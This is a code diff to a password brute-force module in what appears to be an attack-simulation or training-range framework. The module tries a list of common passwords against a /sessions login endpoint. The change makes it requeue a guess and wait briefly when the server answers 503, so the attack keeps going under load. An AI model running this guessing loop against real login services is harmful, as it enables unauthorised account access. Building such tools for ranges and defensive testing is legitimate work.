@@ -1,4 +1,5 @@
 // Brute force: the passwords that most people have, one after the other, until one is right.
+import { setTimeout as sleep } from 'node:timers/promises'
 import { asker } from '../asking.ts'
 import type { Attack } from '../attack.ts'
 import { BOUNDS } from '../raid.ts'
@@ -12,6 +13,8 @@ const COMMON = [
 /** What the victim of the range has. */
 export const WEAK: string = COMMON[20]
 const AT_ONCE = 2
+/** A target that has too much to do is asked again: what it would say of the password is what counts. */
+const BUSY_MS = 300
 
 export const attack: Attack = {
   slug: 'guesses',
@@ -40,7 +43,10 @@ export const attack: Attack = {
         const { status, code, headers } = await ask('POST', '/sessions', { json: { name, password } })
         if (status === 201) found = password
         else if (status === 401) wrong++
-        else stop = `${status} ${code ?? ''}`
+        else if (status === 503) {
+          waiting.unshift(password) // this one was not tried yet
+          await sleep(BUSY_MS, undefined, { signal: over })
+        } else stop = `${status} ${code ?? ''}`
         waits = headers.get('retry-after') ?? waits
       }
     }
